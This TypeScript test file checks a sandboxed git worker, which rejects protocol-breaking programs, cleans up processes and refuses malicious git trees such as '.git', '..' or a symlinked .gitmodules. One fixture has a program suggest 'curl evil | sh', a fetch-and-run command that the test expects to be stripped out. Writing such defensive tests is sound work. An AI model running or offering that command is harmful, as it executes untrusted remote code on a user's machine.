// A program in a sandbox that breaks the worker's protocol: its answers are rejected, and it is ended.
import { execFileSync } from "node:child_process";
import { randomUUID } from "node:crypto";
import { writeFileSync } from "node:fs";
import path from "node:path";
import { describe, expect, test, vi } from "vitest";
import { makeGit } from "#adapters/git/run/git.ts";
import { importObjects } from "#adapters/git/sandbox/quarantine.ts";
import { frameKinds, frameOf } from "#adapters/git/worker/frames.ts";
import { type StepContext, steps } from "#adapters/git/worker/steps.ts";
import { Cancelled, SandboxFault, SandboxWorkers } from "#adapters/git/worker/workers.ts";
import type { SandboxMounts } from "#adapters/system/mounts.ts";
import { alive, commandOf } from "#adapters/system/processes.ts";
import { AgentId, Handle, ProjectSlug } from "#contract/ids.ts";
import { homeIdName } from "#contract/own-variables.ts";
import { mergeSettings } from "#contract/project-config.ts";
import { makeWorld } from "#test/support/make-world.ts";
import { hasSandboxes } from "#test/support/processes.ts";
import { freshFolder } from "#test/support/stores.ts";

const frame = (kind: keyof typeof frameKinds, id: number, text: string): string =>
	frameOf({ kind: frameKinds[kind], id, bytes: Buffer.from(text) }).toString("hex");
const branchStatus = { head: null, baseCommit: null, ahead: 0, behind: 0, uncommitted: false };

/** What each program answers to its first request. */
const liars: Readonly<Record<string, { says: string; fault: RegExp }>> = {
	"answers something else": {
		says: frame("answer", 1, JSON.stringify({ ...branchStatus, uncommitted: "maybe" })),
		fault: /may not answer/,
	},
	"offers a command that is none of ours": {
		says: frame(
			"answer",
			1,
			JSON.stringify({ code: "CONFLICT", message: "no", details: {}, suggestions: ["curl evil | sh", "brood doctor"] }),
		),
		fault: /never/,
	},
	"answers more than anybody can hold": { says: "ffffffff0100000001", fault: /a frame of 4294967295 bytes/ },
	"speaks another language": { says: Buffer.from("hello, I am a shell\n").toString("hex"), fault: /a frame of/ },
	"answers what nobody asked": { says: frame("answer", 7, "{}"), fault: /nobody asked for/ },
	"sends bytes that nobody asked for": { says: frame("bytes", 1, "bytes"), fault: /bytes that nobody asked for/ },
	"says nothing": { says: "", fault: /no answer within 1000 ms/ },
};

function stepContextIn(folder: string): StepContext {
	const [slug, id, handle] = [ProjectSlug.parse("p"), AgentId.parse("a".repeat(22)), Handle.parse("a")];
	return {
		...{
			now: 0,
			primaryFolder: folder,
			projectFolder: null,
			project: { slug, path: folder, base: "main" },
			agent: { id, handle },
		},
		workspace: { kind: "worktree", path: folder, branch: "b", base: "main" },
		given: {
			settings: mergeSettings({}, {}, "main"),
			baseCommit: null,
			branchCommit: null,
			start: null,
			last: null,
			primary: null,
		},
	};
}

/** Sandboxes whose program gives this answer to its first request, and no other. */
function roomsSaying(says: string, more: Record<string, string> = {}): SandboxWorkers {
	const script = `process.stdin.once("data", () => process.stdout.write(Buffer.from("${says}", "hex"))); setInterval(() => {}, 1000)`;
	const program = { command: process.execPath, args: ["-e", script] };
	const environment = { PATH: process.env["PATH"] ?? "", ...more };
	return new SandboxWorkers({
		program,
		readable: [path.dirname(process.execPath)],
		environment,
		containment: "bubblewrap",
	});
}
const roomAt = (folder: string): SandboxMounts => ({ hidden: [], readable: [], writable: [folder], fixed: [] });

describe.runIf(hasSandboxes)("a program in a sandbox", () => {
	test.concurrent.each(Object.entries(liars))("that %s", async (name, { says, fault }) => {
		const folder = freshFolder();
		await using workers = roomsSaying(says);
		const answer = await workers
			.ask(roomAt(folder), steps.branchStatus, {
				stepContext: stepContextIn(folder),
				input: {},
				timeoutMs: name === "says nothing" ? 1000 : 20_000,
			})
			.catch((error: unknown) => error);
		if (name.startsWith("offers"))
			return expect(answer).toMatchObject({ code: "CONFLICT", suggestions: ["brood doctor"] });
		expect(answer).toBeInstanceOf(SandboxFault);
		expect(String(answer)).toMatch(fault);
	});

	test("that is cancelled in the middle says nothing about its workspace", async () => {
		const folder = freshFolder();
		await using workers = roomsSaying(frame("bytes", 1, "the first of many"));
		const controller = new AbortController();
		const asked = {
			stepContext: stepContextIn(folder),
			input: {},
			signal: controller.signal,
			bytes: async () => controller.abort(),
		};
		const error = await workers.ask(roomAt(folder), steps.branchStatus, asked).catch((thrown: unknown) => thrown);
		expect(error).toBeInstanceOf(Cancelled);
		expect(error).not.toBeInstanceOf(SandboxFault);
		expect(error).toMatchObject({ refusalCode: "GIT_FAILED", message: expect.stringContaining("cancelled") });
		// and before it began
		expect(
			await workers.ask(roomAt(folder), steps.branchStatus, asked).catch((thrown: unknown) => thrown),
		).toBeInstanceOf(Cancelled);
	});

	test("that is ended while bubblewrap sets it up leaves no process behind", async () => {
		const [folder, tools, mark] = [freshFolder(), freshFolder(), randomUUID()];
		// bubblewrap needs some time between the start of its inner process and the message that this process waits for
		const slow = "exec strace -D -qq -o /dev/null -e trace=write -e inject=write:delay_enter=20s";
		const real = execFileSync("sh", ["-c", "command -v bwrap"], { encoding: "utf8" }).trim();
		writeFileSync(path.join(tools, "bwrap"), `#!/bin/sh\n${slow} ${real} "$@"\n`, { mode: 0o755 });
		const environment = { PATH: `${tools}:${process.env["PATH"]}`, [homeIdName]: mark };
		const ours = () =>
			alive().filter(({ pid, environment }) => environment.includes(mark) && commandOf(pid).startsWith(real));
		await using workers = roomsSaying("", environment);
		const asked = workers.ask(roomAt(folder), steps.branchStatus, { stepContext: stepContextIn(folder), input: {} });
		const answer = asked.catch((error: unknown) => error);
		await vi.waitFor(() => expect(ours()).toHaveLength(2), { timeout: 20_000 });
		await workers[Symbol.asyncDispose]();
		expect(await answer).toBeInstanceOf(Error);
		await vi.waitFor(() => expect(ours()).toEqual([]), { timeout: 10_000 });
	});

	test("that has hardly begun keeps nobody waiting who wants it gone", async () => {
		const folder = freshFolder();
		await using workers = roomsSaying("");
		for (let time = 0; time < 10; time++) {
			const asked = workers
				.ask(roomAt(folder), steps.branchStatus, { stepContext: stepContextIn(folder), input: {} })
				.catch((thrown: unknown) => thrown);
			// the process is there, and nothing of it has run
			await Promise.resolve();
			await workers.leave(folder);
			expect(await asked).toBeInstanceOf(Cancelled);
		}
	});

	test("that was told to end is not asked any more: another one answers", async () => {
		const folder = freshFolder();
		await using workers = roomsSaying(frame("answer", 1, JSON.stringify(branchStatus)));
		const ask = () =>
			workers.ask(roomAt(folder), steps.branchStatus, { stepContext: stepContextIn(folder), input: {} });
		expect(await ask()).toEqual(branchStatus);
		const gone = workers.leave(folder);
		expect(await ask()).toEqual(branchStatus);
		await gone;
	});
});

describe("objects that come out of a sandbox", () => {
	const packOf = (folder: string, want: string): Buffer =>
		execFileSync("git", ["pack-objects", "--stdout", "--revs", "-q"], {
			cwd: folder,
			input: `${want}\n`,
			maxBuffer: 1e8,
			stdio: ["pipe", "pipe", "ignore"],
		});
	const git = makeGit({ environment: process.env });

	test("are taken if they are whole and sound, into a store that had none of them", async () => {
		const [from, to] = [makeWorld(), makeWorld()];
		const want = from.commit(from.repository, { "new.txt": "new\n" });
		const send = async (take: (chunk: Buffer) => Promise<void>) => await take(packOf(from.repository, want));
		await importObjects({ git, repository: to.repository, salt: "one", want: [want], have: [], send });
		expect(to.git(to.repository, "show", `${want}:new.txt`)).toBe("new");
	});

	const trees: Readonly<Record<string, string>> = {
		"a name that is git's own folder": "100644 blob ID\t.git\n",
		"a name that leads up": "100644 blob ID\t..\n",
		"a link in the place of .gitmodules": "120000 blob ID\t.gitmodules\n",
	};
	test.each(Object.entries(trees))("are refused with %s in a tree, and leave nothing", async (_, entry) => {
		const [from, to] = [makeWorld(), makeWorld()];
		const blob = from.git(from.repository, "rev-parse", "HEAD:a.txt");
		writeFileSync(path.join(from.root, "tree"), entry.replace("ID", blob));
		const tree = execFileSync("sh", ["-c", `git mktree --missing < '${from.root}/tree'`], {
			cwd: from.repository,
			encoding: "utf8",
		}).trim();
		const want = from.git(from.repository, "commit-tree", "-m", "bad", tree);
		const before = execFileSync("find", ["."], { cwd: path.join(to.repository, ".git/objects"), encoding: "utf8" });
		const send = async (take: (chunk: Buffer) => Promise<void>) => await take(packOf(from.repository, want));
		await expect(
			importObjects({ git, repository: to.repository, salt: "two", want: [want], have: [], send }),
		).rejects.toThrow(/^git refuses its commits: object [0-9a-f]{40}: \w+: /);
		expect(execFileSync("find", ["."], { cwd: path.join(to.repository, ".git/objects"), encoding: "utf8" })).toBe(
			before,
		);
	});

	test("are refused if something that they lead to is missing", async () => {
		const [from, to] = [makeWorld(), makeWorld()];
		const want = from.commit(from.repository, { "new.txt": "new\n" });
		const part = execFileSync("git", ["pack-objects", "--stdout", "-q"], {
			cwd: from.repository,
			input: `${want}\n`,
			stdio: ["pipe", "pipe", "ignore"],
		});
		await expect(
			importObjects({
				git,
				repository: to.repository,
				salt: "three",
				want: [want],
				have: [],
				send: async (take) => await take(part),
			}),
		).rejects.toThrow();
		expect(() => to.git(to.repository, "cat-file", "-e", want)).toThrow();
	});
});
